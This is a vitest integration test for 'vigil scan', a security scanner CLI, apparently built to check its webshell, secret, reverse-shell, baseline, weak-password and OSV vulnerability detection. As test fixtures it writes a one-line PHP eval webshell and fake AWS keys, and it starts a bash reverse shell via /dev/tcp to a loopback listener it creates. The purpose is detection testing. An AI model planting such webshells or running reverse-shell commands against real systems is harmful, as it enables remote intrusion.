/**
 * `vigil scan` through the BUILT CLI against real things on this machine: a webshell and a fake
 * AWS key pair the test writes, a git repository whose history still holds a deleted key, a live
 * reverse shell on loopback, the shipped baseline policies, a generated shadow file, OSV records
 * for a package that is really installed (as a directory and as a ZIP), SARIF structure and the
 * exit codes. Run `npm run build:server` first.
 */
import { execFileSync, spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { randomBytes, randomInt } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

if (!existsSync('dist/cli/main.js') || !existsSync('dist/cli/scan-command.js')) {
  throw new Error('dist/cli/scan-command.js is missing: run `npm run build:server` before this test');
}

interface CliResult {
  status: number | null;
  stdout: string;
  stderr: string;
}

function vigilScan(args: string[], timeoutMs = 150_000): Promise<CliResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['bin/vigil.js', 'scan', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString('utf8')));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString('utf8')));
    const timer = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`vigil scan ${args.join(' ')} did not finish in ${timeoutMs} ms\n${stderr}`));
    }, timeoutMs);
    child.on('error', reject);
    child.on('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stdout, stderr });
    });
  });
}

interface Finding {
  id: string;
  rule: string;
  level: 'serious' | 'suspicious' | 'remind';
  title: string;
  detail: string;
  location?: { path?: string; line?: number; pid?: number };
  fix?: string;
}
interface Part {
  name: string;
  status: 'ok' | 'error' | 'skipped';
  reason?: string;
  findings: Finding[];
  stats: Record<string, number | string | boolean>;
}
interface Report {
  host: { hostname: string; os: string; kernel: string };
  startedAt: string;
  finishedAt: string;
  parts: Part[];
}

function parseReport(r: CliResult): Report {
  try {
    return JSON.parse(r.stdout) as Report;
  } catch {
    throw new Error(`not JSON (exit ${r.status}):\n${r.stdout.slice(0, 2000)}\n${r.stderr.slice(0, 2000)}`);
  }
}

function part(report: Report, name: string): Part {
  const p = report.parts.find((x) => x.name === name);
  if (!p) throw new Error(`no part ${name} in ${report.parts.map((x) => x.name).join(',')}`);
  return p;
}

const B32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
/** A well-formed AWS key pair that is obviously ours and random per run (never a real or corpus key). */
function fakeAwsPair(): { id: string; secret: string } {
  const tail = Array.from({ length: 3 }, () => B32[randomInt(B32.length)]).join('');
  const secret = randomBytes(45).toString('base64').replace(/[^A-Za-z0-9/+]/g, '').slice(0, 40);
  return { id: `AKIAVIGILSCANTEST${tail}`, secret };
}

const WEBSHELL = `<?php @eval($_POST['x']); ?>\n`;
const tmp: string[] = [];
const mk = (prefix: string): string => {
  const d = mkdtempSync(join(tmpdir(), prefix));
  tmp.push(d);
  return d;
};

let webroot = '';
let cleanRoot = '';
let repo = '';
const livePair = fakeAwsPair();
const historyPair = fakeAwsPair();

beforeAll(() => {
  webroot = mk('vigil-scan-web-');
  mkdirSync(join(webroot, 'uploads'));
  writeFileSync(join(webroot, 'index.php'), '<?php echo "hello"; ?>\n');
  writeFileSync(join(webroot, 'uploads', 'img.php'), WEBSHELL);
  writeFileSync(join(webroot, 'settings.env'), `# deploy\nAWS_ACCESS_KEY_ID=${livePair.id}\nAWS_SECRET_ACCESS_KEY=${livePair.secret}\n`);

  cleanRoot = mk('vigil-scan-clean-');
  writeFileSync(join(cleanRoot, 'index.php'), '<?php echo htmlspecialchars($_GET["q"] ?? ""); ?>\n');
  writeFileSync(join(cleanRoot, 'style.css'), 'body { color: #333; }\n');

  repo = mk('vigil-scan-repo-');
  const git = (...args: string[]): void => {
    execFileSync('git', ['-C', repo, '-c', 'user.name=Vigil Test', '-c', 'user.email=test@vigil.invalid', '-c', 'commit.gpgsign=false', ...args], { stdio: 'ignore' });
  };
  git('init', '-q');
  writeFileSync(join(repo, 'README.md'), 'demo\n');
  writeFileSync(join(repo, 'deploy.sh'), `#!/bin/sh\nexport AWS_ACCESS_KEY_ID=${historyPair.id}\nexport AWS_SECRET_ACCESS_KEY=${historyPair.secret}\n`);
  git('add', '.');
  git('commit', '-q', '-m', 'add deploy script');
  git('rm', '-q', 'deploy.sh');
  git('commit', '-q', '-m', 'remove credentials');
});

afterAll(() => {
  for (const d of tmp) rmSync(d, { recursive: true, force: true });
});

function expectNoSecrets(r: CliResult): void {
  for (const s of [livePair.secret, livePair.id, historyPair.secret, historyPair.id]) {
    expect(r.stdout).not.toContain(s);
    expect(r.stderr).not.toContain(s);
  }
}

describe('vigil scan: webshells and secrets', () => {
  it('finds the webshell, the live key pair and the key deleted from git history, and prints no secret', async () => {
    const r = await vigilScan(['--only', 'webshell,secrets', '--path', webroot, '--path', repo, '--json']);
    expect(r.status, r.stderr).toBe(1);
    const report = parseReport(r);
    expect(report.parts.map((p) => [p.name, p.status])).toEqual([
      ['webshell', 'ok'],
      ['secrets', 'ok'],
    ]);
    const web = part(report, 'webshell');
    const shell = web.findings.filter((f) => f.location?.path === join(webroot, 'uploads', 'img.php'));
    expect(shell.length).toBeGreaterThan(0);
    expect(shell.some((f) => f.level === 'serious')).toBe(true);
    expect(shell[0]?.location?.line).toBe(1);
    expect(web.findings.filter((f) => f.location?.path === join(webroot, 'index.php'))).toEqual([]);
    expect(web.stats.files).toBe(4); // index.php, uploads/img.php, settings.env + the repo's README.md (.git is skipped)

    const sec = part(report, 'secrets');
    const live = sec.findings.filter((f) => f.location?.path === join(webroot, 'settings.env'));
    expect(live.map((f) => f.rule).sort()).toContain('aws-secret-access-key');
    expect(live.find((f) => f.rule === 'aws-secret-access-key')).toMatchObject({ level: 'serious', location: { line: 3 } });
    const hist = sec.findings.filter((f) => f.location?.path === join(repo, 'deploy.sh'));
    expect(hist.length).toBeGreaterThan(0);
    expect(hist.every((f) => f.title.includes('in git history'))).toBe(true);
    expect(hist.find((f) => f.rule === 'aws-secret-access-key')).toMatchObject({ level: 'serious', location: { line: 3 } });
    expect(hist[0]?.detail).toMatch(/added in commit [0-9a-f]{12} by Vigil Test/);
    expect(sec.stats).toMatchObject({ gitRepositories: 1, commits: 2 });
    expect(r.stderr).toContain('[2/2] secrets: scanning git history of');
    expectNoSecrets(r);
  });

  it('readable text: counts at the top, findings grouped by level, no secret', async () => {
    const r = await vigilScan(['--only', 'webshell,secrets', '--path', webroot, '--quiet']);
    expect(r.status).toBe(1);
    expect(r.stderr).toBe('');
    const lines = r.stdout.split('\n');
    expect(lines[2]).toMatch(/^Findings: \d+ — serious [1-9]\d* · suspicious \d+ · remind \d+$/);
    const serious = r.stdout.indexOf('\nSERIOUS (');
    expect(serious).toBeGreaterThan(0);
    expect(r.stdout.slice(serious)).toContain(join(webroot, 'uploads', 'img.php'));
    expectNoSecrets(r);
  });

  it('SARIF 2.1.0: one run, rules from the findings, results with ruleId, level and file locations', async () => {
    const r = await vigilScan(['--only', 'webshell,secrets', '--path', webroot, '--path', repo, '--sarif', '-q']);
    expect(r.status).toBe(1);
    const sarif = JSON.parse(r.stdout) as {
      version: string;
      runs: Array<{
        tool: { driver: { name: string; rules: Array<{ id: string; defaultConfiguration: { level: string } }> } };
        results: Array<{
          ruleId: string;
          ruleIndex: number;
          level: string;
          message: { text: string };
          locations?: Array<{ physicalLocation?: { artifactLocation: { uri: string }; region?: { startLine: number } } }>;
        }>;
        invocations: Array<{ executionSuccessful: boolean }>;
      }>;
    };
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs).toHaveLength(1);
    const run = sarif.runs[0];
    if (!run) throw new Error('no run');
    expect(run.tool.driver.name).toBe('Vigil');
    const ruleIds = run.tool.driver.rules.map((x) => x.id);
    expect(new Set(ruleIds).size).toBe(ruleIds.length);
    expect(ruleIds).toContain('aws-secret-access-key');
    expect(run.results.length).toBeGreaterThan(0);
    for (const res of run.results) {
      expect(['error', 'warning', 'note']).toContain(res.level);
      expect(ruleIds[res.ruleIndex]).toBe(res.ruleId);
      expect(res.message.text.length).toBeGreaterThan(0);
      const loc = res.locations?.[0]?.physicalLocation;
      expect(loc?.artifactLocation.uri).toMatch(/^file:\/\/\//);
      expect(loc?.region?.startLine).toBeGreaterThan(0);
    }
    expect(run.results.some((x) => x.level === 'error' && x.locations?.[0]?.physicalLocation?.artifactLocation.uri.endsWith('/uploads/img.php'))).toBe(true);
    expect(run.invocations[0]?.executionSuccessful).toBe(true);
    expectNoSecrets(r);
  });
});

describe('vigil scan: exit codes', { timeout: 240_000 }, () => {
  it('0 on a clean directory, 1 with the webshell, 0 again with --fail-on none, 2 on usage errors', async () => {
    const clean = await vigilScan(['--only', 'webshell', '--path', cleanRoot, '--json', '-q']);
    expect(clean.status, clean.stdout).toBe(0);
    expect(part(parseReport(clean), 'webshell')).toMatchObject({ status: 'ok', findings: [] });

    const dirty = await vigilScan(['--only', 'webshell', '--path', webroot, '-q']);
    expect(dirty.status).toBe(1);
    const none = await vigilScan(['--only', 'webshell', '--path', webroot, '-q', '--fail-on', 'none']);
    expect(none.status).toBe(0);

    for (const bad of [['--bogus'], ['--only', 'nosuch'], ['--only', 'webshell'], ['--only', 'vuln'], ['--json', '--sarif'], ['--fail-on', 'loud'], ['--timeout', '0']]) {
      const r = await vigilScan(bad);
      expect(r.status, `${bad.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(/error/);
      expect(r.stdout).toBe('');
    }
  });

  it('a failing part is an error section with exit 3 while the others still report', async () => {
    const r = await vigilScan(['--only', 'webshell,vuln', '--path', webroot, '--osv', join(cleanRoot, 'no-such-osv'), '--json']);
    expect(r.status).toBe(3);
    const report = parseReport(r);
    expect(part(report, 'vuln')).toMatchObject({ status: 'error', findings: [] });
    expect(part(report, 'vuln').reason).toContain('no-such-osv');
    const web = part(report, 'webshell');
    expect(web.status).toBe('ok');
    expect(web.findings.length).toBeGreaterThan(0);
    expect(r.stderr).toMatch(/vuln: error/);
  });
});

describe('vigil scan: live reverse shell on loopback', () => {
  let server: Server | undefined;
  let shell: ChildProcess | undefined;
  const conns: Socket[] = [];

  afterAll(async () => {
    if (shell?.pid !== undefined) {
      try {
        process.kill(-shell.pid, 'SIGKILL');
      } catch {
        // already gone
      }
    }
    for (const c of conns) c.destroy();
    await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  });

  it('--only revshell --json reports a serious finding with the shell pid and the peer', async () => {
    const connected = new Promise<void>((resolve) => {
      server = createServer((s) => {
        conns.push(s);
        s.on('error', () => undefined);
        resolve();
      });
    });
    await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
    const addr = server?.address();
    if (!addr || typeof addr === 'string') throw new Error('listener has no port');
    shell = spawn('bash', ['-c', `bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/${addr.port} 0>&1`], { detached: true, stdio: 'ignore' });
    await connected;

    const r = await vigilScan(['--only', 'revshell', '--json']);
    const report = parseReport(r);
    const rev = part(report, 'revshell');
    expect(rev.status).toBe('ok');
    const mine = rev.findings.filter((f) => f.title.includes(`127.0.0.1:${addr.port}`));
    expect(mine.length, JSON.stringify(rev.findings, null, 1)).toBe(1);
    const f = mine[0] as Finding;
    expect(f.level).toBe('serious');
    expect(f.rule).toBe('revshell.stdio-socket');
    // The shell is the spawned bash itself (bash execs a single command) or its child.
    const pid = f.location?.pid as number;
    const ppid = Number(readFileSync(`/proc/${pid}/stat`, 'utf8').replace(/^.*\) /s, '').split(' ')[1]);
    expect(pid === shell.pid || ppid === shell.pid, `finding pid ${pid} (parent ${ppid}), spawned ${shell.pid}`).toBe(true);
    expect(r.status).toBe(1);
  });
});

describe('vigil scan: baseline on this machine', () => {
  it('--only baseline runs every shipped policy and a user policy; verdicts match the machine', async () => {
    const dir = mk('vigil-scan-policy-');
    const probeFile = join(dir, 'app.conf');
    writeFileSync(probeFile, 'debug = true\nlisten = 127.0.0.1\n');
    const policyFile = join(dir, 'local.yml');
    writeFileSync(
      policyFile,
      [
        'policy: { id: local_test, file: local.yml, name: "Local test policy", description: "scan-cli test" }',
        'checks:',
        '  - id: 1',
        '    title: "debug is off"',
        '    condition: none',
        `    rules: [ 'f:${probeFile} -> r:^debug\\s*=\\s*true' ]`,
        '  - id: 2',
        '    title: "listens on loopback"',
        '    condition: all',
        `    rules: [ 'f:${probeFile} -> r:^listen\\s*=\\s*127\\.0\\.0\\.1' ]`,
        '',
      ].join('\n'),
    );
    const r = await vigilScan(['--only', 'baseline', '--policy', policyFile, '--json']);
    const report = parseReport(r);
    const base = part(report, 'baseline');
    expect(base.status, base.reason).toBe('ok');
    const shipped = readdirSync('rules/baseline').filter((f) => f.endsWith('.yml')).length;
    expect(base.stats.policies).toBe(shipped + 1);
    expect(Number(base.stats.checks)).toBeGreaterThan(10);
    expect(Number(base.stats.failed)).toBe(base.findings.length);
    for (const f of base.findings) expect(f.rule).toMatch(/^[a-z_0-9]+\/\d+$/);

    // Our policy: check 1 fails (a reminder: Wazuh checks carry no level), check 2 passes.
    const local = base.findings.filter((f) => f.rule.startsWith('local_test/'));
    expect(local.map((f) => [f.rule, f.level, f.location?.path])).toEqual([['local_test/1', 'remind', probeFile]]);
    expect(local[0]?.detail).toContain('debug = true');

    // A shipped check judged from the machine itself: auditd installed or not.
    const auditd = spawnSync('dpkg-query', ['-W', '-f', '${db:Status-Abbrev}', 'auditd'], { encoding: 'utf8' });
    const installed = auditd.status === 0 && auditd.stdout.startsWith('ii');
    expect(base.findings.some((f) => f.rule === 'vigil_debian_essentials/910012')).toBe(!installed);
    expect(r.status).toBe(base.findings.some((f) => f.level === 'serious') ? 1 : 0);
  });

  it('a policy file that does not load makes the part an error (exit 3) but the others still count', async () => {
    const dir = mk('vigil-scan-badpolicy-');
    writeFileSync(join(dir, 'bad.yml'), 'policy: { id: broken }\nchecks: 7\n');
    const r = await vigilScan(['--only', 'baseline', '--policy', join(dir, 'bad.yml'), '--json', '-q']);
    expect(r.status).toBe(3);
    const base = part(parseReport(r), 'baseline');
    expect(base.status).toBe('error');
    expect(base.reason).toContain('bad.yml');
    expect(base.stats.policies).toBe(readdirSync('rules/baseline').filter((f) => f.endsWith('.yml')).length);
  });
});

describe('vigil scan: weak passwords', () => {
  it('--shadow with a weak yescrypt password finds that account, never prints hash or password', async () => {
    const dir = mk('vigil-scan-shadow-');
    const weak = 'vigiltest123';
    const hash = execFileSync('mkpasswd', ['-m', 'yescrypt', weak]).toString().trim();
    const shadow = join(dir, 'shadow');
    writeFileSync(shadow, `root:*:19000:0:99999:7:::\nvigiltest:${hash}:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n`);
    const r = await vigilScan(['--only', 'weakpass', '--shadow', shadow, '--json']);
    const wp = part(parseReport(r), 'weakpass');
    expect(wp.status, wp.reason).toBe('ok');
    const sys = wp.findings.filter((f) => f.rule.startsWith('weakpass.system.'));
    expect(sys.map((f) => [f.rule, f.level, f.location?.path])).toEqual([['weakpass.system.weak_password', 'serious', shadow]]);
    expect(sys[0]?.fix).toContain('passwd vigiltest');
    expect(r.stdout).not.toContain(hash);
    expect(r.stdout).not.toContain(weak);
    expect(r.stderr).not.toContain(weak);
    expect(r.status).toBe(1);
  });
});

describe('vigil scan: vulnerabilities from OSV records', () => {
  const osRelease = Object.fromEntries(
    readFileSync('/etc/os-release', 'utf8')
      .split('\n')
      .map((l) => /^([A-Z_]+)="?([^"]*)"?$/.exec(l))
      .filter((m): m is RegExpExecArray => m !== null)
      .map((m) => [m[1], m[2]]),
  ) as Record<string, string>;
  const debianLike = osRelease.ID === 'debian' && existsSync('/usr/bin/dpkg-query');

  it.runIf(debianLike)('an advisory fixed after the installed bash is found (directory and ZIP), one fixed before is not', async () => {
    const q = execFileSync('dpkg-query', ['-W', '-f', '${Version}\t${source:Package}', 'bash']).toString().trim();
    const [version = '', source = ''] = q.split('\t');
    const eco = `Debian:${(osRelease.VERSION_ID ?? '').split('.')[0]}`;
    const record = (id: string, fixed: string, severity: string): object => ({
      schema_version: '1.6.0',
      id,
      modified: '2026-01-01T00:00:00Z',
      summary: `${id} test advisory`,
      aliases: [`CVE-2099-${id.slice(-4)}`],
      database_specific: { severity },
      affected: [{ package: { ecosystem: eco, name: source }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed }] }] }],
    });
    const dir = mk('vigil-scan-osv-');
    mkdirSync(join(dir, 'osv', 'debian'), { recursive: true });
    writeFileSync(join(dir, 'osv', 'debian', 'VIGIL-TEST-1001.json'), JSON.stringify(record('VIGIL-TEST-1001', `${version}+vigil1`, 'high')));
    writeFileSync(join(dir, 'osv', 'debian', 'VIGIL-TEST-1002.json'), JSON.stringify(record('VIGIL-TEST-1002', '0.1-1', 'high')));
    writeFileSync(join(dir, 'osv', 'debian', 'broken.json'), '{"id": 42}');
    execFileSync('zip', ['-q', '-r', join(dir, 'osv.zip'), '.'], { cwd: join(dir, 'osv') });

    for (const src of [join(dir, 'osv'), join(dir, 'osv.zip')]) {
      const r = await vigilScan(['--only', 'vuln', '--osv', src, '--json', '-q']);
      const v = part(parseReport(r), 'vuln');
      expect(v.status, v.reason).toBe('ok');
      expect(v.stats).toMatchObject({ ecosystem: eco, advisoryRecords: 3, advisoriesForHost: 2, invalidRecords: 1 });
      expect(Number(v.stats.packages)).toBeGreaterThan(50);
      expect(v.findings.map((f) => [f.rule, f.level])).toEqual([['VIGIL-TEST-1001', 'serious']]);
      expect(v.findings[0]?.title).toContain(`bash ${version}, fixed in ${version}+vigil1`);
      expect(v.findings[0]?.fix).toContain('apt-get install --only-upgrade bash');
      expect(r.status).toBe(1);
    }
  });
});

describe('vigil scan: default run', () => {
  it('runs the checks that need no input and lists the others as skipped with the reason', async () => {
    const r = await vigilScan(['--json']);
    const report = parseReport(r);
    expect(report.host.kernel).toBe(readFileSync('/proc/sys/kernel/osrelease', 'utf8').trim());
    expect(report.parts.map((p) => p.name)).toEqual(['revshell', 'webshell', 'secrets', 'baseline', 'weakpass', 'vuln']);
    for (const n of ['revshell', 'baseline', 'weakpass']) expect(part(report, n).status, part(report, n).reason).toBe('ok');
    expect(part(report, 'webshell')).toMatchObject({ status: 'skipped', reason: 'needs --path DIR' });
    expect(part(report, 'vuln').status).toBe('skipped');
    expect(Date.parse(report.finishedAt)).toBeGreaterThanOrEqual(Date.parse(report.startedAt));
    expect(r.stderr).toMatch(/\[1\/3\] revshell: started/);
    expect(r.stderr).toMatch(/\[3\/3\] weakpass: done/);
  });
});
